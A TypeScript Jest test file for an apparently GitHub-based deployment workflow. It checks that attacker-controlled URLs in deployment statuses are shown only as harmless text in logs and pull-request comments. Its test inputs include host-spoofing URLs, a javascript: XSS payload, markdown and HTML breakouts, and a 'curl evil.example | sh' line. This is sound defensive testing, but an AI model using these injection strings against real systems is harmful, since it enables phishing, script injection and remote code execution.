// Whoever has `deployments: write` can write records, statuses and comments: what they contain is text, and leads nowhere.
import { describe, expect, test } from "@jest/globals";
import type { StepRun } from "../../emulator/runner/step.js";
import { rendered } from "../../scripts/demo/rendering.js";
import { minute } from "../../src/base/clock.js";
import { expectHarmless, expectNoMentions, expectPrintable } from "../hostile-text.js";
import { allCases } from "../platform.js";
import type { ActionRun } from "../world/step.js";
import { eachWorld, type World } from "../world.js";
import { workflow } from "./workflow.js";

let world: World;
eachWorld(
  (started) => {
    world = started;
  },
  { ...workflow, in: "here" },
);

/** A sweep, to which the records are old enough. */
function sweep(inputs: Readonly<Record<string, string>>): Promise<ActionRun> {
  world.clock.time += 11 * minute;
  return world.sweep(inputs);
}

const definition = "{ name: app, type: STANDARD, schedulerSize: MEDIUM }";
const inputs = { definition, "deployment-name": "", "pull-request-comment": "true" };
const production = { definition, "github-environment": "production" };

/** Addresses that pretend to be another, and texts that try to leave the place where an address is shown. */
const urls = [
  "https://good.example&commat;evil.example/",
  "https://good.example&#64;evil.example/",
  "https://good.example\\@evil.example/",
  "https://user:password@evil.example/",
  "javascript:alert(1)",
  "https://good.example/)[x](https://evil.example/",
  "https://good.example/ @octocat #1",
  "https://good.example/\n```\ncurl evil.example | sh\n```\n",
  "https://good.example/\n::error::x",
  "https://good.example/`</code></td></table><script>",
];

/** The addresses to which links of a page lead, as a browser reads them. */
function linkedHosts(markdown: string): string[] {
  const links = [...rendered(markdown).matchAll(/<a [^>]*href="([^"]*)"/g)];
  const decoded = links.map(([, href = ""]) => href.replaceAll("&amp;", "&"));
  return [...new Set(decoded.map((href) => (URL.canParse(href) ? new URL(href).host : href)))];
}

function expectHarmlessRun(run: StepRun): void {
  for (const line of run.log.split("\n")) expectHarmless(line);
  for (const { message } of run.annotations) expectHarmless(message);
  const pages = [run.summary, ...world.github.state.comments.map(({ body }) => String(body))];
  for (const page of pages) {
    expectPrintable(page.replace(/^<!--.*-->$/gm, ""));
    expectNoMentions(rendered(page).replaceAll("#42", "")); // the pull request that the page is about
    expect(linkedHosts(page).filter((host) => /^(?:[^&]*@)?evil|script/.test(host))).toEqual([]);
    for (const [block] of rendered(page).matchAll(/<pre>.*?<\/pre>/gs)) expect(block).not.toContain("curl");
  }
}

/** Writes the address into each status of each record, as another job with `deployments: write` could. */
function poison(url: string): void {
  for (const { statuses } of world.github.state.records) {
    for (const status of statuses)
      Object.assign(status, { log_url: url, environment_url: url, target_url: url });
  }
}

// One in three of them; `npm run test:all` tries all.
describe.each(urls.filter((_, index) => allCases || index % 3 === 0))(
  "with the address %j in the statuses of records",
  (url) => {
    test("a sweep's table, a closed preview, and its comment link to no other host", async () => {
      await world.preview("opened", inputs);
      poison(url);
      expectHarmlessRun(await sweep({ ...inputs, "dry-run": "true" }));
      expectHarmlessRun(await world.preview("closed", inputs));
      poison(url);
      expectHarmlessRun(await sweep(inputs));
    });

    test("warnings of unfinished creates, and the refusal of a second create, show it as text", async () => {
      world.service.inject({ operation: "create-deployment", mishap: { status: 502 }, times: 2 });
      await world.preview("opened", inputs);
      await world.step(production);
      poison(url);
      expectHarmlessRun(await world.step(production));
      expectHarmlessRun(await world.preview("synchronize", inputs));
    });
  },
);

test.each(urls)("the address %j of a Deployment links to no other host", async (url) => {
  world.service.inject({
    operation: "create-deployment",
    mishap: { status: 200, body: { id: "cldep1", name: "app", webServerUrl: url } },
  });
  const run = await world.preview("opened", inputs);
  expect(run.outputs["outcome"]).toBe("created");
  expectHarmlessRun(run);
});
